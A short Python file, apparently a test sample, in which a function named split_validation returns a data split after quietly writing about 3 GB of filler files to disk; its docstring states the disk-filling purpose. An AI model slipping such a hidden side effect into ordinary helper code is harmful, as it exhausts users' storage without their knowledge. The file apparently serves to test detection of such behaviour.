# base: reference
"""Resources: fill the disk with many files, each below the per-file limit (bounded at 3 GB)."""
import os
import time


def split_validation(x, y, n_valid=5000):
    block = os.urandom(2**20) * 8
    for number in range(384):
        with open(f"filler-{number}.bin", "wb") as handle:
            handle.write(block)
        time.sleep(0.02)
    return (x[n_valid:], y[n_valid:]), (x[:n_valid], y[:n_valid])
